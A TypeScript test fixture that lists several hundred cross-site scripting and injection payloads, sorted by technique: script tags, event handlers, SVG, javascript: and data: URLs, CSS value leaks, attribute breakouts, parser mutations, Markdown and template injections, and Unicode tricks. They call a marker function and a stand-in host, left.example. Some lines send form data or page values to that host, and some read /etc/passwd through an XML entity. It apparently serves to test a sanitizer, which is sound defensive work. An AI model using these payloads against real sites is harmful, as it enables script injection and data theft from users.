/**
 * Texts that would run `ran()`, or ask `left.example` for something, where anybody took them for more than text. Written for this
 * project, a line each, by what they lean on. `ran` is what the alarm of the test puts on the page.
 */
const lines = (block: string): readonly string[] => block.split('\n').map((line) => line.trim()).filter((line) => line !== '');

const scripts = lines(String.raw`
	<script>ran()</script>
	<SCRIPT>ran()</SCRIPT>
	<ScRiPt >ran()</sCrIpT >
	<script/x>ran()</script/x>
	<script src=//left.example/s.js></script>
	<script src="data:text/javascript,ran()"></script>
	<script type=module>ran()</script>
	<script async defer src="https://left.example/late.js">
	<script>ran()//
	</title><script>ran()</script>
	</textarea><script>ran()</script>
	</style><script>ran()</script>
	</script><script>ran()</script>
	</option></select><script>ran()</script>
	</button></form><script>ran()</script>
	<scr<script>ipt>ran()</scr</script>ipt>
	<<script>ran();//<</script>
	<script language="vbscript">ran</script>
	<script>globalThis['r'+'an'].call()</script>
	<script>[].constructor.constructor('ran()')()</script>
`);

const handlers = lines(String.raw`
	<img src=x onerror=ran()>
	<img src=x OnErRoR=ran()>
	<img src=x onerror="ran()">
	<img src=x onerror='ran()'>
	<img/src=x/onerror=ran()>
	<img src onerror=ran() x>
	<img src=x onerror=ran&lpar;&rpar;>
	<img src=x onerror=&#114;&#97;&#110;&#40;&#41;>
	<img src=x onerror="&#x72;&#x61;&#x6e;()">
	<img src=data: onerror=ran()>
	<img srcset=x onerror=ran()>
	<image src=x onerror=ran()>
	<picture><source srcset=x><img onerror=ran() src=y></picture>
	<body onload=ran()>
	<body onpageshow=ran()>
	<body onhashchange=ran()>
	<body onmessage=ran()>
	<body onresize=ran()>
	<iframe onload=ran()></iframe>
	<object onerror=ran() data=x></object>
	<embed src=x onerror=ran()>
	<video src=x onerror=ran()></video>
	<video><source onerror=ran()></video>
	<audio src=x onerror=ran()></audio>
	<audio autoplay onloadstart=ran() src=data:,x></audio>
	<track onerror=ran() src=x default>
	<input autofocus onfocus=ran()>
	<input type=image src=x onerror=ran()>
	<input onblur=ran() autofocus><input autofocus>
	<textarea autofocus onfocus=ran()></textarea>
	<select autofocus onfocus=ran()></select>
	<button autofocus onfocus=ran()>x</button>
	<details open ontoggle=ran()><summary>x</summary></details>
	<details open><summary onfocus=ran() autofocus tabindex=0>x
	<marquee onstart=ran()>x</marquee>
	<marquee loop=1 onfinish=ran()>x</marquee>
	<div onmouseover=ran() style=position:fixed;inset:0>x</div>
	<div onpointerenter=ran() style="position:fixed;inset:0;z-index:9">x</div>
	<div onpointerrawupdate=ran() style="position:fixed;inset:0">x</div>
	<div tabindex=0 autofocus onfocusin=ran()>x</div>
	<p contenteditable autofocus onfocus=ran()>x</p>
	<a id=go tabindex=1 autofocus onfocus=ran()>x</a>
	<style onload=ran()>x{}</style>
	<link rel=stylesheet href=data:text/css, onload=ran()>
	<script src=x onerror=ran()></script>
	<dialog open onclose=ran()><form method=dialog><button autofocus>x</button></form></dialog>
	<div popover id=p onbeforetoggle=ran()>x</div><button popovertarget=p autofocus>x</button>
	<span style="animation:ii-spin 1s" onanimationstart=ran()>x</span>
	<span style="transition:color 1ms" ontransitionend=ran() autofocus tabindex=0>x</span>
	<x-own onscrollend=ran() style=overflow:scroll;height:1px>x</x-own>
	<meter onmouseenter=ran() value=1>x</meter>
	<table background=//left.example/t.png onclick=ran()><td>x</table>
	<keygen autofocus onfocus=ran()>
	<isindex type=image src=x onerror=ran()>
	<bgsound src=//left.example/b.mid onerror=ran()>
	<area tabindex=0 autofocus onfocus=ran() href=#>
`);

const drawings = lines(String.raw`
	<svg onload=ran()>
	<svg/onload=ran()>
	<svg><script>ran()</script></svg>
	<svg><script href="data:text/javascript,ran()"/></svg>
	<svg><script xlink:href=//left.example/s.js></script></svg>
	<svg><script>ran&#40;&#41;</script></svg>
	<svg><style><img src=x onerror=ran()></style></svg>
	<svg><a xlink:href="javascript:ran()"><text y=20>x</text></a></svg>
	<svg><animate onbegin=ran() attributeName=x dur=1s></svg>
	<svg><set onbegin=ran() attributeName=x to=1></svg>
	<svg><animate xlink:href=#q attributeName=href values=javascript:ran() /><a id=q><text y=20>x</text></a></svg>
	<svg><use href="data:image/svg+xml,<svg id='u' xmlns='http://www.w3.org/2000/svg'><script>ran()</script></svg>#u"/></svg>
	<svg><image href=//left.example/i.png onerror=ran()></svg>
	<svg><image href=x onerror=ran()></image></svg>
	<svg><foreignObject><iframe srcdoc="<script>parent.ran()</script>"></iframe></foreignObject></svg>
	<svg><foreignObject><body onload=ran()></foreignObject></svg>
	<svg><desc><img src=x onerror=ran()></desc></svg>
	<svg><title><img src=x onerror=ran()></title></svg>
	<svg><discard onbegin=ran()></svg>
	<svg><feImage href=//left.example/f.png /></svg>
	<svg><handler type="text/javascript">ran()</handler></svg>
	<math href="javascript:ran()">x</math>
	<math><maction actiontype="statusline#x" xlink:href="javascript:ran()">x</maction></math>
	<math><mtext><img src=x onerror=ran()></mtext></math>
	<math><annotation-xml encoding=text/html><img src=x onerror=ran()></annotation-xml></math>
	<math><mi xlink:href="data:text/html,<script>ran()</script>">x</mi></math>
`);

const addresses = [
	...lines(String.raw`
		javascript:ran()
		JaVaScRiPt:ran()
		javascript://%0Aran()
		javascript&colon;ran()
		javascript&#58;ran()
		&#106;avascript:ran()
		&#x6A;&#x61;vascript:ran()
		java&Tab;script:ran()
		java&NewLine;script:ran()
		javascript:/*--></title></style></textarea></script><svg onload=ran()>*/ran()
		javascript:void(ran())
		javascript:"\x3cscript\x3eran()\x3c/script\x3e"
		vbscript:ran
		VBScript:Execute("ran")
		livescript:ran()
		data:text/html,<script>ran()</script>
		DATA:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==
		data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>
		data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"><script>ran()</script></html>
		view-source:javascript:ran()
		blob:javascript:ran()
		file:///etc/passwd
		obsidian://open?vault=x&file=..%2F..%2Fx
		obsidian://advanced-uri?eval=ran()
		//left.example/path
		https://user:word@left.example/#<script>ran()</script>
		http://left.example\@127.0.0.1/
		<a href="javascript:ran()" autofocus>x</a>
		<a href=" javascript:ran()">x</a>
		<a href="javascript:ran()" target=_self id=clickme>x</a>
		<a href=data:text/html,<script>ran()</script>>x</a>
		<a href=//left.example ping=//left.example/ping>x</a>
		<a download=x.hta href=//left.example/x.hta>x</a>
		<area shape=default href=javascript:ran()>
		<form action=javascript:ran()><input type=submit autofocus></form>
		<form><button formaction=javascript:ran()>x</button></form>
		<form id=f action=//left.example/take><input name=note value=x></form><script>f.submit()</script>
		<input form=f formaction=javascript:ran() type=submit>
		<isindex action=javascript:ran() type=submit>
		<blockquote cite=javascript:ran()>x</blockquote>
	`),
	'java\tscript:ran()', 'java\u0000script:ran()', '\u0001javascript:ran()', '\u00a0javascript:ran()', 'java\u00adscript:ran()', 'javascript\u200b:ran()', '<a href="\u0001javascript:ran()">x</a>',
	'<a href="java\tscript:ran()">x</a>', '<img src=x\u000conerror=ran()>', '<img src=x\u0000onerror=ran()>',
];

const styles = lines(String.raw`
	<style>@import '//left.example/a.css';</style>
	<style>*{background:url(//left.example/all.png)}</style>
	<style>input[value^="a"]{background:url(//left.example/a)}</style>
	<style>@font-face{font-family:x;src:url(//left.example/x.woff)}*{font-family:x}</style>
	<div style="background:url(//left.example/b.png)">x</div>
	<div style="background-image:\75rl(//left.example/c.png)">x</div>
	<div style="width:expression(ran())">x</div>
	<div style="xss:expr/**/ession(ran())">x</div>
	<div style="-moz-binding:url(//left.example/x.xml#x)">x</div>
	<div style="behavior:url(x.htc)">x</div>
	<div style="list-style:url(javascript:ran())">x</div>
	<div style="cursor:url(//left.example/c.cur),auto">x</div>
	<div style="content:url(//left.example/d.png)">x</div>
	</style><img src=x onerror=ran()>
	red;background:url(//left.example/e.png)
	red}*{background:url(//left.example/f.png)}
	var(--x,url(//left.example/g.png))
	<link rel=stylesheet href=//left.example/h.css>
`);

const breakers = lines(String.raw`
	"><img src=x onerror=ran()>
	'><img src=x onerror=ran()>
	><img src=x onerror=ran()>
	" onmouseover="ran()
	' onmouseover='ran()
	" autofocus onfocus="ran()" x="
	' autofocus onfocus='ran()' x='
	x autofocus onfocus=ran() x
	" style="animation:x" onanimationstart="ran()
	"/><svg/onload=ran()>
	"]<img src=x onerror=ran()>
	');ran();//
	");ran();//
	\");ran();//
	${'`'};ran();//
	${'$'}{ran()}
	'-ran()-'
	"-ran()-"
	\u003cimg src=x onerror=ran()\u003e
	\x3cimg src=x onerror=ran()\x3e
	%3Cimg%20src=x%20onerror=ran()%3E
	&lt;img src=x onerror=ran()&gt;
	&amp;lt;img src=x onerror=ran()&amp;gt;
	&#60;img src=x onerror=ran()&#62;
	+ADw-img src=x onerror=ran()+AD4-
	<!--><img src=x onerror=ran()>-->
	<!-- --!><img src=x onerror=ran()> -->
	<!--[if gte IE 4]><script>ran()</script><![endif]-->
	--><img src=x onerror=ran()><!--
	<![CDATA[><img src=x onerror=ran()>]]>
	]]><img src=x onerror=ran()>
	<?xml version="1.0"?><img src=x onerror=ran()>
	<?php ran() ?><img src=x onerror=ran()>
	<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
	<% ran() %><img src=x onerror=ran()>
`);

const frames = lines(String.raw`
	<iframe src=javascript:ran()></iframe>
	<iframe src="javascript:parent.ran()"></iframe>
	<iframe srcdoc="<script>parent.ran()</script>"></iframe>
	<iframe srcdoc="&lt;img src=x onerror=parent.ran()&gt;"></iframe>
	<iframe src="data:text/html,<script>parent.ran()</script>"></iframe>
	<iframe src=//left.example></iframe>
	<frameset onload=ran()><frame src=javascript:parent.ran()></frameset>
	<object data=javascript:ran()></object>
	<object data="data:text/html,<script>parent.ran()</script>"></object>
	<object type=text/x-scriptlet data=//left.example/x></object>
	<embed src=javascript:ran()>
	<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.ran()'/>">
	<applet code=Ran archive=//left.example/x.jar></applet>
	<portal src=//left.example></portal>
	<base href=//left.example/>
	<base target=_blank href=javascript:/a/+ran()//>
	<meta http-equiv=refresh content="0;url=javascript:ran()">
	<meta http-equiv=refresh content="0;url=//left.example/gone">
	<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">
	<meta charset=utf-7>
	<form action=//left.example/take method=post><button autofocus>x
	<link rel=prefetch href=//left.example/p>
	<link rel=import href=//left.example/i.html>
	<link rel=dns-prefetch href=//left.example>
	<link rel=icon href=//left.example/favicon.ico>
`);

const mutations = lines(String.raw`
	<svg></p><style><g title="</style><img src=x onerror=ran()>">
	<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran()&gt;">
	<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>
	<noscript><p title="</noscript><img src=x onerror=ran()>">
	<xmp><p title="</xmp><img src=x onerror=ran()>">
	<noembed><img title="</noembed><img src=x onerror=ran()>">
	<noframes><a title="</noframes><img src=x onerror=ran()>">
	<template><img src=x onerror=ran()></template>
	<template shadowrootmode=open><img src=x onerror=ran()></template>
	<listing>&lt;img src=x onerror=ran()&gt;</listing>
	<table><a href=javascript:ran()><tr><img src=x onerror=ran()></table>
	<select><template><img src=x onerror=ran()></template><option></select>
	<p><svg><![CDATA[<img src=x onerror=ran()>]]></svg></p>
	<svg><p><style><a id="</style><img src=x onerror=ran()>"></p></svg>
	<b id=location><b name=body><img name=getElementById>
	<form id=document><input name=cookie><input name=attributes>
	<a id=app><a id=app name=vault href=javascript:ran()>
	<plaintext><img src=x onerror=ran()>
`);

const markdown = lines(String.raw`
	[x](javascript:ran())
	[x](JAVASCRIPT:ran())
	[x](<javascript:ran()>)
	[x](java&#x73;cript:ran())
	[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)
	[x](vbscript:ran)
	[x](//left.example "title" onmouseover=ran())
	[x]: javascript:ran() "x"
	![x](//left.example/pixel.png)
	![x](x"onerror="ran())
	![](https://left.example/seen.gif?who=me)
	<javascript:ran()>
	<https://left.example/"onmouseover="ran()>
	[[x|<img src=x onerror=ran()>]]
	[[<img src=x onerror=ran()>]]
	[["onmouseover="ran()]]
	[[javascript:ran()]]
	![[//left.example/x.png|100]]
	![[x.html#<svg onload=ran()>]]
	[[x]]<img src=x onerror=ran()>[[y]]
	${'`'}<img src=x onerror=ran()>${'`'}<img src=x onerror=ran()>
	> [!note]- <img src=x onerror=ran()>
	$\href{javascript:ran()}{x}$
	$$\url{javascript:ran()}\includegraphics{//left.example/m.png}$$
	#tag<img/src=x/onerror=ran()>
	==<svg/onload=ran()>==
	%%<img src=x onerror=ran()>%%
	^[<img src=x onerror=ran()>]
	- [ ] <input autofocus onfocus=ran()>
	| <img src=x onerror=ran()> | x |
`);

const templates = lines(String.raw`
	{{constructor.constructor('ran()')()}}
	{{#with "s" as |string|}}{{string.sub.apply 0 "ran()"}}{{/with}}
	{{{ran}}}
	{{__proto__.ran}}
	{{lookup this "constructor"}}
	{{#each this}}{{@root.ran}}{{/each}}
	{{> ran}}
	<%= ran() %>
	<%* ran() %>
	<%* tR += await tp.system.prompt(ran()) %>
	<% tp.user.ran() %>
	${'$'}= ran()
	${'`'}$= dv.paragraph(ran())${'`'}
	${'`'}= this.file.name + ran()${'`'}
	${'`'}${'`'}${'`'}dataviewjs ran() ${'`'}${'`'}${'`'}
	${'~'}${'~'}${'~'}js run ran() ${'~'}${'~'}${'~'}
	${'`'}${'`'}${'`'}html <img src=x onerror=ran()> ${'`'}${'`'}${'`'}
	{% raw %}<img src=x onerror=ran()>{% endraw %}
	#{ran()}
	@{ran()}
	[[${'$'}{ran()}]]
	*{ran()}
	{{ '{{' }}ran(){{ '}}' }}
	---js ran() ---
	!!js/function 'function(){ran()}'
	=HYPERLINK("//left.example/x","x")
	@SUM(1)*cmd|'/c ran'!A1
`);

/** Text that turns round, hides, widens or is not what it looks like. */
const signs = [
	'\u202e>)(nar=rorreno x=crs gmi<', '\u2066<img src=x onerror=ran()>\u2069', '\u200f\u202e\u2067<svg onload=ran()>', '<\u200bimg src=x onerror=ran()>', '<img\u2028src=x\u2028onerror=ran()>',
	'＜img src=x onerror=ran()＞', '＜script＞ran()＜／script＞', '<ſcript>ran()</ſcript>', '<ımg src=x onerror=ran()>', '\ufeff<img src=x onerror=ran()>', '<img src=x onerror=ran()\ufeff>',
	'\u{e003c}\u{e0069}\u{e006d}\u{e0067}<img src=x onerror=ran()>', 'À¼img src=x onerror=ran()À¾', '<img src=x on\u200derror=ran()>', '<img src=x onerror=r\\u0061n()>', '<\u0130MG src=x onerror=ran()>',
	'‹img src=x onerror=ran()›', '\ud83d<img src=x onerror=ran()>', '<img src=x onerror=\u2003ran()>', '\u0085<img src=x onerror=ran()>', 'e\u0301'.repeat(40) + '<svg onload=ran()>',
];

/** Every payload, by the kind of door it tries. */
const payloadsByKind: Readonly<Record<string, readonly string[]>> = { scripts, handlers, drawings, addresses, styles, breakers, frames, mutations, markdown, templates, signs };

export const payloads: readonly string[] = Object.values(payloadsByKind).flat();
